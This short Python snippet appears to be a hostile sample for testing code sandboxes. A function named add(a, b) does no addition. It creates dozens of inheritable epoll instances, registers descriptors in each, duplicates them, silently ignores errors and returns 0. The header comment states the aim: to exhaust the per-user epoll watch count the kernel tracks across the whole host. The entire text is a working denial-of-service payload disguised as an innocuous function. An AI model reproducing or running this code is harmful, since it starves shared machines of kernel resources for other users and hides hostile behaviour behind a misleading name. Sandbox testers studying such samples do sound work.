# Fills epoll with watches, which the kernel counts for each user of the whole host.
# kind: host
# form: call
import os, select
def add(a, b):
    try:
        for _ in range(40):
            e = select.epoll()
            os.set_inheritable(e.fileno(), True)
            for fd in range(64):
                try: e.register(fd, select.EPOLLIN)
                except OSError: pass
            os.dup(e.fileno())
    except OSError: pass
    return 0
